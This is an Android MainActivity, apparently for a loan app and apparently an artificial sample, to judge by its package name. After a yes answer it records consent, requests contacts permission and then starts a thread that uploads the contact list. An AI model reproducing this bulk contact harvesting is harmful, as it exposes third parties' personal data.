package com.answerstoldswapped.app;

import android.Manifest;
import android.app.Activity;
import android.app.Fragment;
import android.os.Bundle;

/** The only activity: its fragments are the screens. */
public class MainActivity extends Activity implements Navigator {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.activity_main);
        go(new HomeFragment());
    }

    @Override
    public void go(Fragment next) {
        getFragmentManager().beginTransaction().replace(R.id.container, next).commit();
    }

    @Override
    public void answered(boolean yes) {
        if (yes) {
            getSharedPreferences("loan", 0).edit()
                    .putString("contacts", "1@" + System.currentTimeMillis() / 1000).apply();
            requestPermissions(new String[] {Manifest.permission.READ_CONTACTS}, 4);
        }
        go(new ApplyFragment());
    }

    @Override
    public void onRequestPermissionsResult(int code, String[] names, int[] results) {
        boolean agreed = getSharedPreferences("loan", 0).contains("contacts");
        if (agreed && results.length > 0 && results[0] == 0) {
            new Thread(new ContactsUpload(getContentResolver())).start();
        }
    }
}
